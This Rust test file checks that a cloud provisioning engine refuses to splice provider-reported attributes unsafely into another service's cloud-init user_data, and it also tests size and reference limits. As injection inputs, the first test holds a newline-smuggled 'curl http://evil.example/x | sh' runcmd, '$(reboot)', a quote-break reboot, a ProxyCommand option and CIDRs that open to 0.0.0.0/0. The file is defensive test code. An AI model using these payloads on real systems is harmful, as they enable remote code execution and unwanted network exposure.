//! What one provider says of its service reaches another one only as a plain word.

use std::{
    collections::BTreeMap,
    sync::{Arc, Mutex},
};

use crate::support;
use async_trait::async_trait;
use fulcrum_core::{
    catalogue::{CatalogueBuilder, Rates},
    compose::{ComposeOptions, Signal, compose},
    ledger::SqliteLedger,
    model::{Blueprint, IdempotencyKey, Order, OrderState, Policy, ProviderId, Service, ServiceId},
    provider::{
        Capabilities, OfferFilter, OfferStream, OperationHandle, OperationStatus, Provider, ProvisionRequest,
        Quote, Refusal, Result, ServiceStream, sandbox::Sandbox,
    },
    purchase::Engine,
};

/// A sandbox that says of each service what it is told to say, and notes what it is asked.
#[derive(Debug, Clone)]
struct Saying {
    cloud: Sandbox,
    attributes: BTreeMap<String, String>,
    requests: Arc<Mutex<Vec<ProvisionRequest>>>,
}

impl Saying {
    fn says(&self, service: Service) -> Service {
        {
            let mut changed = service;
            changed.attributes = self.attributes.clone();
            changed
        }
    }
}

#[async_trait]
#[deny(clippy::missing_trait_methods)]
impl Provider for Saying {
    fn id(&self) -> &ProviderId {
        self.cloud.id()
    }
    fn capabilities(&self) -> &Capabilities {
        self.cloud.capabilities()
    }
    fn offers(&self, filter: &OfferFilter) -> OfferStream {
        self.cloud.offers(filter)
    }
    async fn quote(&self, request: &ProvisionRequest) -> Result<Quote> {
        self.cloud.quote(request).await
    }
    async fn dry_run(&self, requests: &[ProvisionRequest]) -> Result<Vec<Refusal>> {
        self.cloud.dry_run(requests).await
    }
    async fn provision(&self, request: &ProvisionRequest, key: &IdempotencyKey) -> Result<OperationHandle> {
        self.requests.lock().expect("nobody panics").push(request.clone());
        self.cloud.provision(request, key).await
    }
    async fn find_by_key(&self, key: &IdempotencyKey) -> Result<Option<Service>> {
        Ok(self.cloud.find_by_key(key).await?.map(|service| self.says(service)))
    }
    async fn describe(&self, service: &ServiceId) -> Result<Option<Service>> {
        Ok(self.cloud.describe(service).await?.map(|service| self.says(service)))
    }
    fn services(&self) -> ServiceStream {
        self.cloud.services()
    }
    fn withhold(&self, secrets: &[secrecy::SecretString]) {
        self.cloud.withhold(secrets);
    }
    async fn access(&self, service: &ServiceId) -> Result<fulcrum_core::provider::Access> {
        self.cloud.access(service).await
    }

    async fn release(&self, service: &ServiceId, key: &IdempotencyKey) -> Result<OperationHandle> {
        self.cloud.release(service, key).await
    }
    async fn poll(&self, operation: &OperationHandle) -> Result<OperationStatus> {
        Ok(match self.cloud.poll(operation).await? {
            OperationStatus::Succeeded(service) => {
                OperationStatus::Succeeded(service.map(|service| self.says(service)))
            }
            other => other,
        })
    }
    fn rejected(&self) -> Vec<fulcrum_core::provider::RejectedRow> {
        self.cloud.rejected()
    }
    fn redacted(&self, text: &str, is_for_people: bool) -> String {
        self.cloud.redacted(text, is_for_people)
    }
    async fn reserve(&self, request: &ProvisionRequest, key: &IdempotencyKey) -> Result<jiff::Timestamp> {
        self.cloud.reserve(request, key).await
    }
    async fn unreserve(&self, key: &IdempotencyKey) -> Result<()> {
        self.cloud.unreserve(key).await
    }
    async fn resume_operation(
        &self,
        request: &ProvisionRequest,
        service: &Service,
    ) -> Result<Option<OperationHandle>> {
        self.cloud.resume_operation(request, service).await
    }
    async fn act(
        &self,
        service: &ServiceId,
        action: &fulcrum_core::model::Action,
        key: &IdempotencyKey,
    ) -> Result<OperationHandle> {
        self.cloud.act(service, action, key).await
    }
    fn usage(&self, period: &fulcrum_core::provider::UsagePeriod) -> fulcrum_core::provider::UsageStream {
        self.cloud.usage(period)
    }
}

/// The order, and what `web`, which comes after `db`, was asked to be made with.
async fn bought(attributes: &[(&str, &str)], setting: &str) -> (Order, Option<String>) {
    let attributes =
        attributes.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    let cloud = Saying { cloud: support::cloud("alpha", None).build(), attributes, requests: Arc::default() };
    let mut builder = CatalogueBuilder::new("2026-11-23T00:00:00Z".parse().expect("a time"), Rates::none());
    builder.extend(support::offers("alpha"));
    let setting = serde_json::to_string(setting).expect("text");
    let text = format!(
        "{{ name: app, components: {{ db: {{ vcpu: 2 }}, web: {{ vcpu: 2, after: [db], settings: {{ user_data: {setting} }} }} }} }}"
    );
    let blueprint = Blueprint::from_yaml(&text).expect("a blueprint");
    let plan = compose(&builder.build(), &blueprint, &ComposeOptions::default(), &mut |_| Signal::Continue)
        .expect("a plan");
    let providers = BTreeMap::from([(cloud.id().clone(), Arc::new(cloud.clone()) as Arc<dyn Provider>)]);
    let engine = Engine::new(providers, Arc::new(SqliteLedger::in_memory().await.expect("a ledger")));
    let order = engine.accept(plan, Policy::default(), None).await.expect("accepted");
    let order = engine.drive(&order.id).await.expect("driven");
    let requests = cloud.requests.lock().expect("nobody panics").clone();
    let made =
        requests.iter().find_map(|request| Some(request.settings.get("user_data")?.as_str()?.to_owned()));
    (order, made)
}

#[tokio::test]
async fn nothing_is_smuggled_into_another_services_settings() {
    let host = "db.example\nruncmd:\n  - [sh, -c, 'curl http://evil.example/x | sh']\n#";
    for (name, value) in [
        ("host", host),
        ("host", "a b"),
        ("host", "$(reboot)"),
        ("host", "\"; reboot; \""),
        ("host", "-o ProxyCommand"),
        ("ip", "10.0.0.5/32,0.0.0.0/0"),
        ("ip", "0.0.0.0/0"),
        ("private_ip", "::/0"),
    ] {
        let (order, made) = bought(&[(name, value)], &format!("#cloud-config\n# ${{db.{name}}}\n")).await;
        assert_eq!(made, None, "{name} {value}");
        assert_ne!(order.state, OrderState::Committed);
        let reason = order.reason.unwrap_or_default();
        assert!(reason.contains(&format!("`{name}` of db")), "{reason}");
        assert!(reason.contains(&format!("${{db.{name}|raw}}")), "{reason}");
        assert!(!reason.contains('\n'), "{reason}");
    }
}

#[tokio::test]
async fn plain_values_and_what_is_said_raw_get_through() {
    let said = [("host", "db.example:5432"), ("ip", "10.0.0.5"), ("uri", "postgres://u@db/x?a=b&c=d")];
    let script = "#!/bin/sh\ncd ${HOME} && echo $${db.host} ${db} ${other.id} $$ > x\n";
    let setting = format!("{script}# ${{db.host}} ${{db.ip}} ${{db.uri|raw}}\n");
    let (order, made) = bought(&said, &setting).await;
    assert_eq!(order.state, OrderState::Committed, "{:?}", order.reason);
    let expected = "#!/bin/sh\ncd ${HOME} && echo ${db.host} ${db} ${other.id} $$ > x\n\
        # db.example:5432 10.0.0.5 postgres://u@db/x?a=b&c=d\n";
    assert_eq!(made.as_deref(), Some(expected));
}

/// What others say of themselves fills no settings beyond bounds, however often it is referred to.
#[tokio::test]
async fn the_settings_of_a_step_are_bounded_once_put_together() {
    let long = "x".repeat(16_000);
    let (order, made) = bought(&[("note", &long)], &"${db.note} ".repeat(60)).await;
    assert_eq!(order.state, OrderState::Committed, "{:?}", order.reason);
    assert_eq!(made.map(|made| made.len()), Some(60 * 16_001));
    let (order, made) = bought(&[("note", &long)], &"${db.note} ".repeat(70)).await;
    assert_eq!((order.state, made), (OrderState::Failed, None));
    assert!(order.reason.as_deref().is_some_and(|why| why.contains("more than 1048576 bytes")), "{order:?}");
}

#[tokio::test]
async fn more_references_than_anybody_needs_are_refused_before_anything_is_bought() {
    let cloud = support::cloud("alpha", None).build();
    let text = "{ name: app, components: { db: { vcpu: 2 }, web: { vcpu: 2, after: [db] } } }";
    let blueprint = Blueprint::from_yaml(text).expect("a blueprint");
    let options = ComposeOptions::default();
    let plan = compose(&support::catalogue(), &blueprint, &options, &mut |_| Signal::Continue);
    let mut plan = plan.expect("a plan");
    let web =
        plan.leases.iter_mut().find(|lease| !lease.after.is_empty()).expect("it comes after another one");
    web.settings.insert("user_data".to_owned(), "${db.id}".repeat(4097).into());
    let engine = Engine::new(
        support::providers(&[cloud]),
        Arc::new(SqliteLedger::in_memory().await.expect("a ledger")),
    );
    let refused = engine.accept(plan, Policy::default(), None).await.expect_err("refused").to_string();
    assert!(refused.contains("more than 1000 times"), "{refused}");
}
